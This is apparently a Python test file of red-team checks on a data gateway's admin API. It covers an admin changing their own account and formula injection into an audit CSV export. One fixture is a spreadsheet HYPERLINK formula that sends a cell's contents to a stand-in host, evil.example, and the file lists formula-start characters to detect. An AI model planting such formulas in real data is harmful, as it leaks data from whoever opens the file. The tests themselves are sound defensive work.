"""Red team as an admin, a security officer, a database insider and an anonymous client.

Each test is a finding reproduced through the HTTP API on both deployments (embedded
SQLite, PostgreSQL catalog and audit store).
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.gateway.demo_app import DemoGateway

USERS = "/api/v1/admin/users"
DIBAO = "civil.dibao_recipients"


def _roles(gw: DemoGateway, subject: str) -> set[tuple[str, str]]:
    users = gw.client.get(USERS, headers=gw.headers("root")).json()
    user = next(u for u in users if u["subject"] == subject)
    return {(r["role"], r["domain"]) for r in user["roles"]}


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", f"{USERS}/root/roles", {"role": "analyst"}),
        ("POST", f"{USERS}/root/roles", {"role": "steward", "domain": "civil"}),
        ("PUT", f"{USERS}/root",
         {"display_name": "Root", "clearance": "L4", "jurisdiction": ["43"]}),
        ("DELETE", f"{USERS}/root/roles/admin/*", None),
        ("PUT", f"{USERS}/root/id-number", {"id_number": "11010519491231002X"}),
    ],
)  # fmt: skip
def test_admin_cannot_change_their_own_account(
    deployment: DemoGateway, method: str, path: str, body: Any
) -> None:
    """An admin granting themselves analyst (or steward), clearance and jurisdiction read
    governed data (or approved access requests) with nobody else involved; removing
    their own admin role could leave the gateway without one. Another admin must."""
    gw = deployment
    before = _roles(gw, "root")
    resp = gw.client.request(method, path, headers=gw.headers("root"), json=body)
    assert resp.status_code == 403, resp.text
    assert _roles(gw, "root") == before
    me = gw.client.get("/api/v1/me", headers=gw.headers("root")).json()
    assert me["roles"] == ["admin"]
    assert me["clearance"] == "L1"
    refused = gw.query("root", DIBAO, {"purpose": "supervision", "case_ref": "JW-RT-1"})
    assert refused.status_code == 403, refused.text


FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_audit_csv_export_cells_do_not_act(deployment: DemoGateway) -> None:
    """The actor column of the audit CSV is a subject chosen by whoever names users (an
    admin, an identity provider): a spreadsheet formula there runs when a security
    officer opens the export. Display cells are neutralised (the verified record column
    keeps the event exactly), and the export still verifies offline."""
    import csv
    import io
    import json
    from urllib.parse import quote

    from audit.export import verify_export

    gw = deployment
    body = {"display_name": "x", "clearance": "L1", "jurisdiction": []}
    created = gw.client.put(f"{USERS}/{quote(FORMULA, safe='')}", headers=gw.headers("root"),
                            json=body)  # fmt: skip
    assert created.status_code == 200, created.text
    denied = gw.query(FORMULA, DIBAO, {"purpose": "supervision", "case_ref": "JW-RT-2"})
    assert denied.status_code == 403, denied.text
    export = gw.client.get("/api/v1/audit/export", params={"format": "csv"},
                           headers=gw.headers("sam"))  # fmt: skip
    assert export.status_code == 200, export.text
    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
    actors = [json.loads(row[-1]).get("actor", {}).get("sub") for row in rows[1:]]
    assert FORMULA in actors, "the event is not in the export"
    acting = [cell for row in rows for cell in row[:-1] if cell.startswith(FORMULA_START)]
    assert acting == []
    kids = {k["kid"] for k in gw.client.get("/api/v1/audit/keys").json()["keys"]}
    outcome = verify_export(export.content, trusted_kids=kids)
    assert outcome.ok, outcome
